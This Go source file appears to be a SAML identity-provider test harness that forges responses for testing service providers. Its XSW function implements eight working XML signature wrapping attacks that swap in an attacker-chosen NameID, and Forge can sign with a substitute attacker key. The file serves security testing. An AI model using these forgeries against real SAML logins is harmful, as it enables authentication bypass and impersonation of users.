package samlidp

import (
	"bytes"
	"compress/flate"
	"crypto/rsa"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"time"

	"github.com/beevik/etree"
	"github.com/crewjam/saml"
	dsig "github.com/russellhaering/goxmldsig"
)

// Spec describes a response for Forge. DefaultSpec fills in a valid one;
// tests then break exactly the part they test.
type Spec struct {
	ResponseID     string
	Destination    string
	InResponseTo   string
	ResponseIssuer string
	Status         string
	IssueInstant   time.Time
	// Assertion is the assertion to send; nil with NoAssertion.
	Assertion   *saml.Assertion
	NoAssertion bool
	// SignAssertion and SignResponse add enveloped RSA-SHA256 signatures.
	SignAssertion bool
	SignResponse  bool
	// EncryptTo encrypts the (signed) assertion to this certificate, as
	// Encryption says.
	EncryptTo  *x509.Certificate
	Encryption Encryption
	// EncryptNameIDTo sends the Subject's NameID as an EncryptedID (SAML
	// Core 2.2.4) encrypted to this certificate, as Encryption says, inside
	// the assertion before it is signed (and, with EncryptTo, encrypted).
	EncryptNameIDTo *x509.Certificate
	// Sign chooses the algorithms of both signatures (default RSA-SHA256,
	// SHA-256).
	Sign SignOptions
	// Namespaces chooses how the response names its namespaces.
	Namespaces NamespaceStyle
	// Key and Cert sign instead of the IdP's own pair (an attacker's key:
	// its certificate goes into KeyInfo, as goxmldsig always does).
	Key  *rsa.PrivateKey
	Cert *x509.Certificate
}

// DefaultSpec is a valid, solicited response for the SP spEntityID at acs,
// answering requestID, for the IdP's user, with a signed assertion.
func (p *IdP) DefaultSpec(spEntityID, acs, requestID string) Spec {
	return p.DefaultSpecAt(spEntityID, acs, requestID, saml.TimeNow())
}

// DefaultSpecAt is DefaultSpec issued at now, for fixed test corpora.
func (p *IdP) DefaultSpecAt(spEntityID, acs, requestID string, now time.Time) Spec {
	u := p.user
	attr := func(name, friendly, value string) saml.Attribute {
		return saml.Attribute{Name: name, FriendlyName: friendly, NameFormat: "urn:oasis:names:tc:SAML:2.0:attrname-format:uri",
			Values: []saml.AttributeValue{{Type: "xs:string", Value: value}}}
	}
	return Spec{
		ResponseID:     fmt.Sprintf("id-%x", randomID()),
		Destination:    acs,
		InResponseTo:   requestID,
		ResponseIssuer: p.EntityID(),
		Status:         saml.StatusSuccess,
		IssueInstant:   now,
		SignAssertion:  true,
		Assertion: &saml.Assertion{
			ID:           fmt.Sprintf("id-%x", randomID()),
			IssueInstant: now,
			Version:      "2.0",
			Issuer:       saml.Issuer{Format: "urn:oasis:names:tc:SAML:2.0:nameid-format:entity", Value: p.EntityID()},
			Subject: &saml.Subject{
				NameID: &saml.NameID{Format: u.NameIDFormat, Value: u.NameID, NameQualifier: u.NameQualifier,
					SPNameQualifier: u.SPNameQualifier, SPProvidedID: u.SPProvidedID},
				SubjectConfirmations: []saml.SubjectConfirmation{{
					Method: "urn:oasis:names:tc:SAML:2.0:cm:bearer",
					SubjectConfirmationData: &saml.SubjectConfirmationData{
						InResponseTo: requestID,
						NotOnOrAfter: now.Add(90 * time.Second),
						Recipient:    acs,
					},
				}},
			},
			Conditions: &saml.Conditions{
				NotBefore:            now.Add(-30 * time.Second),
				NotOnOrAfter:         now.Add(90 * time.Second),
				AudienceRestrictions: []saml.AudienceRestriction{{Audience: saml.Audience{Value: spEntityID}}},
			},
			AuthnStatements: []saml.AuthnStatement{{
				AuthnInstant: now,
				SessionIndex: fmt.Sprintf("idx-%d", p.idx.Add(1)),
				AuthnContext: saml.AuthnContext{AuthnContextClassRef: &saml.AuthnContextClassRef{
					Value: "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"}},
			}},
			AttributeStatements: []saml.AttributeStatement{{Attributes: []saml.Attribute{
				attr("urn:oid:0.9.2342.19200300.100.1.3", "mail", u.Email),
				attr("urn:oid:2.5.4.42", "givenName", u.GivenName),
				attr("urn:oid:2.5.4.4", "sn", u.Surname),
				attr("urn:oid:2.16.840.1.113730.3.1.241", "displayName", u.DisplayName),
				attr("urn:oid:0.9.2342.19200300.100.1.1", "uid", u.UserName),
			}}},
		},
	}
}

// Forge builds the response spec describes and returns its XML.
func (p *IdP) Forge(s Spec) ([]byte, error) {
	el, err := p.ForgeElement(s)
	if err != nil {
		return nil, err
	}
	return Serialize(el)
}

// ForgeElement is Forge before serialization, for further tampering.
func (p *IdP) ForgeElement(s Spec) (*etree.Element, error) {
	key, cert := p.key, p.cert
	if s.Key != nil {
		key, cert = s.Key, s.Cert
	}
	resp := saml.Response{
		ID:           s.ResponseID,
		InResponseTo: s.InResponseTo,
		Version:      "2.0",
		IssueInstant: s.IssueInstant,
		Destination:  s.Destination,
		Status:       saml.Status{StatusCode: saml.StatusCode{Value: s.Status}},
	}
	if s.ResponseIssuer != "" {
		resp.Issuer = &saml.Issuer{Format: "urn:oasis:names:tc:SAML:2.0:nameid-format:entity", Value: s.ResponseIssuer}
	}
	el := resp.Element()
	var aEl *etree.Element
	if !s.NoAssertion && s.Assertion != nil {
		aEl = s.Assertion.Element()
		el.AddChild(aEl)
		p.recordIssued(s.Assertion)
	}
	restyle(el, s.Namespaces, 0, map[string]string{})
	if aEl != nil && s.EncryptNameIDTo != nil {
		if err := encryptSubjectNameID(aEl, s.EncryptNameIDTo, s.Encryption); err != nil {
			return nil, err
		}
	}
	// Signatures are made where their element stands, innermost first.
	if aEl != nil && s.SignAssertion {
		sig, err := signEnveloped(aEl, key, cert, s.Namespaces.signOptions(2, s.Sign))
		if err != nil {
			return nil, err
		}
		insertAfterIssuer(aEl, sig)
	}
	if aEl != nil && s.EncryptTo != nil {
		enc, err := encryptAssertion(aEl, s.EncryptTo, s.Encryption)
		if err != nil {
			return nil, err
		}
		at := aEl.Index()
		el.RemoveChild(aEl)
		el.InsertChildAt(at, enc)
		restyle(enc, s.Namespaces, 1, scopeAt(el))
	}
	if s.SignResponse {
		sig, err := signEnveloped(el, key, cert, s.Namespaces.signOptions(1, s.Sign))
		if err != nil {
			return nil, err
		}
		insertAfterIssuer(el, sig)
	}
	return el, nil
}

// Serialize writes el as a document.
func Serialize(el *etree.Element) ([]byte, error) {
	doc := etree.NewDocument()
	doc.SetRoot(el)
	return doc.WriteToBytes()
}

// Parse reads a response for tampering.
func Parse(data []byte) (*etree.Element, error) {
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(data); err != nil {
		return nil, err
	}
	if doc.Root() == nil {
		return nil, errors.New("no root")
	}
	return doc.Root(), nil
}

// RedirectMessage encodes a message for the HTTP-Redirect binding, signed
// with the IdP key (RSA-SHA256 query signature).
func (p *IdP) RedirectMessage(dest, param string, el *etree.Element, relayState string) (string, error) {
	return p.RedirectMessageWith(dest, param, el, relayState, RSASHA256)
}

// RedirectMessageWith is RedirectMessage with the query signature's
// algorithm sigAlg (RSASHA1 or RSASHA256).
func (p *IdP) RedirectMessageWith(dest, param string, el *etree.Element, relayState, sigAlg string) (string, error) {
	var buf bytes.Buffer
	b64 := base64.NewEncoder(base64.StdEncoding, &buf)
	fw, _ := flate.NewWriter(b64, flate.BestCompression)
	doc := etree.NewDocument()
	doc.SetRoot(el)
	if _, err := doc.WriteTo(fw); err != nil {
		return "", err
	}
	fw.Close()
	b64.Close()
	q := param + "=" + url.QueryEscape(buf.String())
	if relayState != "" {
		q += "&RelayState=" + url.QueryEscape(relayState)
	}
	q += "&SigAlg=" + url.QueryEscape(sigAlg)
	ks := dsig.TLSCertKeyStore(tls.Certificate{Certificate: [][]byte{p.cert.Raw}, PrivateKey: p.key, Leaf: p.cert})
	ctx := dsig.NewDefaultSigningContext(ks)
	if err := ctx.SetSignatureMethod(sigAlg); err != nil {
		return "", err
	}
	sig, err := ctx.SignString(q)
	if err != nil {
		return "", err
	}
	q += "&Signature=" + url.QueryEscape(base64.StdEncoding.EncodeToString(sig))
	sep := "?"
	if strings.Contains(dest, "?") {
		sep = "&"
	}
	return dest + sep + q, nil
}

// XSW applies XML signature wrapping permutation n (1-8, after SAML
// Raider's catalogue) to signed, replacing the NameID of the copy the
// attacker wants read with evilNameID. Variants 1-2 need a signed Response,
// 3-8 a signed Assertion.
func XSW(n int, signed []byte, evilNameID string) ([]byte, error) {
	root, err := Parse(signed)
	if err != nil {
		return nil, err
	}
	findA := func(r *etree.Element) *etree.Element {
		for _, c := range r.ChildElements() {
			if c.Tag == "Assertion" {
				return c
			}
		}
		return nil
	}
	sigOf := func(el *etree.Element) *etree.Element {
		for _, c := range el.ChildElements() {
			if c.Tag == "Signature" {
				return c
			}
		}
		return nil
	}
	evilize := func(el *etree.Element) {
		el.CreateAttr("ID", "id-evil")
		for _, x := range el.FindElements(".//NameID") {
			x.SetText(evilNameID)
		}
		if s := sigOf(el); s != nil {
			el.RemoveChild(s)
		}
	}
	object := func(sig *etree.Element, content *etree.Element) {
		obj := sig.CreateElement("ds:Object")
		obj.AddChild(content)
	}
	switch n {
	case 1, 2:
		sig := sigOf(root)
		if sig == nil {
			return nil, errors.New("XSW1/2 need a signed Response")
		}
		orig := root.Copy()
		orig.RemoveChild(sigOf(orig))
		evil := root.Copy()
		evilize(evil)
		if n == 1 {
			s := sig.Copy()
			object(s, orig)
			evil.InsertChildAt(indexAfterIssuer(evil), s)
		} else {
			evil.InsertChildAt(indexAfterIssuer(evil), sig.Copy())
			evil.AddChild(orig)
		}
		return Serialize(evil)
	}
	a := findA(root)
	if a == nil || sigOf(a) == nil {
		return nil, errors.New("XSW3-8 need a signed Assertion")
	}
	evil := a.Copy()
	evilize(evil)
	switch n {
	case 3: // evil sibling before the signed original
		root.InsertChildAt(a.Index(), evil)
	case 4: // evil wraps the signed original
		evil.AddChild(a.Copy())
		root.RemoveChild(a)
		root.AddChild(evil)
	case 5: // signature moved into evil; original, unsigned, beside it
		sig := sigOf(a)
		a.RemoveChild(sig)
		evil.InsertChildAt(indexAfterIssuer(evil), sig)
		root.RemoveChild(a)
		root.AddChild(evil)
		root.AddChild(a)
	case 6: // signature moved into evil, original (signed copy) inside its Object
		sig := sigOf(a).Copy()
		object(sig, a.Copy())
		evil.InsertChildAt(indexAfterIssuer(evil), sig)
		root.RemoveChild(a)
		root.AddChild(evil)
	case 7: // signed original hidden in Extensions
		ext := etree.NewElement("samlp:Extensions")
		ext.AddChild(a.Copy())
		root.RemoveChild(a)
		root.InsertChildAt(indexAfterIssuer(root), ext)
		root.AddChild(evil)
	case 8: // signature moved into evil, unsigned original inside its Object
		sig := sigOf(a)
		a.RemoveChild(sig)
		object(sig, a.Copy())
		evil.InsertChildAt(indexAfterIssuer(evil), sig)
		root.RemoveChild(a)
		root.AddChild(evil)
	default:
		return nil, fmt.Errorf("no XSW variant %d", n)
	}
	return Serialize(root)
}

func indexAfterIssuer(el *etree.Element) int {
	for _, c := range el.ChildElements() {
		if c.Tag == "Issuer" {
			return c.Index() + 1
		}
	}
	return 0
}
